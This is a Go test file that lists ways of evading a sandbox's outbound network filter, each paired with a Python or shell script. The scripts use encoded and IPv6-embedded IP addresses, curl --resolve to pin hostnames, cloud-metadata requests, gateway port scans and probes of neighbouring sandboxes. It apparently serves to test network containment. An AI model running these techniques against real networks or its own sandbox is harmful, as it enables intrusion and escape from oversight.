package egress

// Addresses, in all spellings.
var addressRows = []evasion{
	{id: "address", attack: "a refused address, without asking for a name", in: listed, script: `
for address in (EVIL4, EVIL6):
    for port in (22, 53, 80, 443, 8443, 31337):
        talk(address, port, b"evil\r\n")`},
	{id: "address-of-name", attack: "the real address of a host that is allowed by its name", in: listed, script: `#!
curl -s -m 60 --resolve api.atoll.test:80:93.184.215.20 http://api.atoll.test/evil
curl -sk -m 60 --resolve 'api.atoll.test:443:[2606:2800:21f:cb07::20]' https://api.atoll.test/evil`},
	{id: "address-virtual", attack: "addresses that stand for names, guessed", in: listed, script: `
import concurrent.futures
known = {socket.gethostbyname(RAW), socket.gethostbyname(API)}
guesses = ["198.18.%d.%d" % (a, b) for a in (0, 1, 127, 255) for b in (0, 9, 77, 200, 255)] + ["198.19.255.254", "198.19.255.255", "198.18.0.0"]
guesses += ["fd00:a701:0:1::%x" % n for n in (0, 0x99, 0xffff, 0x1ffff)] + ["fd00:a701:0:1:1::1", "fd00:a701:0:2::1"]
with concurrent.futures.ThreadPoolExecutor(8) as pool:
    list(pool.map(lambda a: talk(a, 80, b"evil\r\n"), [g for g in guesses if g not in known]))`,
		blunt: "they stand for nothing in every mode"},
	{id: "address-mapped", attack: "a refused IPv4 address inside of an IPv6 one: mapped, compatible, NAT64, 6to4, Teredo", in: listed, script: `
import ipaddress
for v4 in (EVIL4, "127.0.0.1", "169.254.169.254", "10.0.0.1"):
    b = ipaddress.ip_address(v4).packed
    for parts in (bytes(10) + b"\xff\xff" + b, bytes(12) + b, b"\0\x64\xff\x9b" + bytes(8) + b, b"\x20\x02" + b + bytes(10),
                  b"\x20\x01" + bytes(10) + bytes(x ^ 255 for x in b), b"\0\x64\xff\x9b\0\1" + bytes(6) + b):
        talk(str(ipaddress.IPv6Address(parts)), 80, b"evil\r\n")`},
	{id: "address-spelled", attack: "a refused IPv4 address as one number, in octal or in hexadecimal", in: listed, script: `#!
for a in 1572394818 0x5db8d742 0135.0270.0327.0102 93.184.55106 0x5d.0xb8.0xd7.0x42; do curl -s -m 60 http://$a/evil; done
node -e 'fetch("http://0x5db8d742/evil").catch(() => {})'
for a in 2852039166 0xa9fea9fe 0251.0376.0251.0376; do curl -s -m 60 http://$a/evil; done; true`},
	{id: "address-listed", attack: "a private address or the cloud's metadata, although the list names it", in: listed, script: `
for address in ("169.254.169.254", "10.0.0.1", "10.87.0.1"):
    talk(address, 80, b"GET /evil HTTP/1.0\r\n\r\n")`, blunt: "refused in every mode"},
	{id: "metadata", attack: "the cloud's metadata, link-local and private addresses under the open policy", in: open, script: `#!
for a in 169.254.169.254 '[fd00:ec2::254]' 168.63.129.16 '[fe80::1%25eth0]' 192.168.1.1 172.16.0.1 100.64.0.1; do
  curl -s -m 2 -g "http://$a/latest/meta-data/evil"
done; true`, blunt: "refused in every mode"},
	{id: "host", attack: "the host's own addresses, and the port of the server itself", in: open, script: `
for address in HOSTS:
    for port in (22, 80, SERVER):
        talk(address, port, b"GET /evil HTTP/1.0\r\n\r\n", within=1)`, blunt: "refused in every mode"},
	{id: "gateway", attack: "ports of the gateway itself", in: open, script: `
import concurrent.futures
def alive(target):
    try:
        tcp(*target, wait=1).close()
        return True
    except OSError:
        return False
targets = [(a, p) for a in ("10.87.0.1", "fd00:a701::1") for p in (1, 22, 80, 443, 853, 2375, 3128, 5355, 8080, 8443, 9000, SERVER)]
with concurrent.futures.ThreadPoolExecutor(8) as pool:
    print("answered:", [t for t, ok in zip(targets, pool.map(alive, targets)) if ok])`,
		prints: `answered: \[\]`, blunt: "nothing but names is served in every mode"},
	{id: "neighbours", attack: "another sandbox", in: listed, script: `
import concurrent.futures
targets = [("10.87.0.%d" % n, 8000) for n in range(3, 12)] + [("fd00:a701::%x" % n, 8000) for n in range(3, 8)] + [("10.87.0.255", 8000)]
with concurrent.futures.ThreadPoolExecutor(8) as pool:
    list(pool.map(lambda t: talk(*t, b"evil\r\n", within=1), targets))
for address in ("10.87.0.255", "255.255.255.255", "10.87.0.3"):
    shout(address, 8000)`, blunt: "sandboxes share nothing in every mode"},
}
